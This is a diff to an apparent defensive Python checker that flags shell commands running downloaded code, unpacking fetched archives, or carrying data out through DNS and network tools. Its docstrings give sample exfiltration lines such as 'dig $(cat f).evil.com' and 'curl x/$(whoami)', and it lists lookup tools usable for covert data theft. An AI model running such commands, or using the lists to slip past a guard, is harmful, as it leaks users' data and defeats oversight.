@@ -63,22 +63,66 @@ def fetched_targets(un: Unwrapped, cmd: SimpleCommand, upstream_fetches: bool) -
     return []
 
 
-def runs_fetched(inv: Invocation, paths: PathJudge, fetched: set[Path]) -> bool:
-    """Does this command run (or feed as a program) a file filled earlier on the line?"""
-    if not fetched:
+# Commands that run code from the directory they work in (conftest.py, Makefile, package.json
+# scripts, build.rs, setup.py): a downloaded file there runs without being named.
+PROJECT_RUNNERS = frozenset({"pytest", "py.test", "make", "gmake", "npm", "yarn", "pnpm", "npx", "cargo", "go", "tox",
+                             "nox", "jest", "vitest", "mocha", "pip", "pip3", "uv", "poetry", "bun", "deno"})
+_CODE_NAME = re.compile(r"(?i).*\.(py|pyc|pth|js|mjs|cjs|ts|tsx|sh|bash|zsh|go|rs|rb|pl|php|lua|mk|toml|cfg|ini|json|"
+                        r"ya?ml|so|node|jar|whl|egg|tar|tgz|gz|zip)|makefile|gnumakefile|[^.]+")
+
+
+def extracted_into(inv: Invocation, paths: PathJudge, fetched: set[Path]) -> list[Word]:
+    """``tar xf a.tar`` / ``unzip a.zip`` of an archive filled earlier on the line: where it unpacks
+    (every file there now holds downloaded data)."""
+    if inv.name not in ("tar", "unzip", "bsdtar") or not fetched:
+        return []
+    if not any(c in fetched for w in inv.args for p in paths.places(w, inv.cwds) for c in p.candidates()):
+        return []
+    options, _ = _parse_options(inv.args, {"-C", "--directory", "-d", "-f", "--file"})
+    return values_of(options, "-C", "--directory", "-d") or [Word(".", ".")]
+
+
+def runs_fetched(inv: Invocation, paths: PathJudge, fetched: set[Path], trees: set[Path] | None = None) -> bool:
+    """Does this command run (or feed as a program) a file filled earlier on the line? ``trees``:
+    directories an archive filled with downloaded files."""
+    if not fetched and not trees:
         return False
     name = inv.name
+    if name in PROJECT_RUNNERS or (re.fullmatch(r"python[\d.]*", name) and "-m" in inv.values):
+        for cwd in inv.cwds:
+            if cwd is not None and (any(f.parent == cwd or cwd in f.parents for f in fetched
+                                        if _CODE_NAME.fullmatch(f.name)) or any(t == cwd or cwd in t.parents
+                                                                                or t in cwd.parents for t in trees or ())):
+                return True
     words = list(inv.argv)
     if name not in RUNNERS and not re.fullmatch(r"python[\d.]*|pypy[\d.]*", name):
         if name in _WITH_SCRIPT_FILE and any(w.value.startswith("-f") for w in inv.args):
             words = inv.args
         else:
-            words = [inv.argv[0]]                 # ./x: the file itself runs
+            words = [inv.argv[0]] if "/" in inv.argv[0].value else []   # ./x runs the file; x is looked up on PATH
     for word in words:
         for place in paths.places(word, inv.cwds):
-            if any(c in fetched for c in place.candidates()):
+            if any(c in fetched or any(t == c or t in c.parents for t in trees or ()) for c in place.candidates()):
                 return True
     return False
+
+
+# Lookups whose name or address carries data out (DNS queries pass where TCP is blocked).
+_DNS_TOOLS = frozenset({"dig", "nslookup", "host", "drill", "ping", "ping6", "traceroute", "tracepath", "whois",
+                        "getent", "resolvectl", "avahi-resolve", "arping", "mtr"})
+
+
+def output_sent(inv: Invocation) -> Finding | None:
+    """``dig $(cat f).evil.com``, ``curl x/$(whoami)``: a network command whose arguments are built
+    from command output sends that output; a lookup of a name built at run time does too."""
+    if inv.name not in _DNS_TOOLS and inv.name not in FETCHERS:
+        return None
+    for word in inv.args:
+        built = any(sub.kind != "process" for sub in word.subs)
+        if built or (inv.name in _DNS_TOOLS and word.params):
+            return deny(f"{inv.name} sends data built at run time ({word.raw!r}) over the network", lift=None,
+                        network=True)
+    return None
 
 
 def pipes_into_runner(inv: Invocation, un: Unwrapped) -> bool:
@@ -96,7 +140,7 @@ def detached(un: Unwrapped, inv: Invocation | None, cmd: SimpleCommand) -> str |
         return "disown lets a background job outlive the shell"
     if "nohup" in un.layers and cmd.background:
         return "nohup … & leaves a process running after the call"
-    if name in ("daemonize", "start-stop-daemon") or (name == "screen" and any(v.startswith("-d") for v in values)) \
+    if name in ("daemonize", "start-stop-daemon", "systemd-run") or (name == "screen" and any(v.startswith("-d") for v in values)) \
             or (name == "tmux" and "-d" in values):
         return f"{name} starts a detached process"
     return None
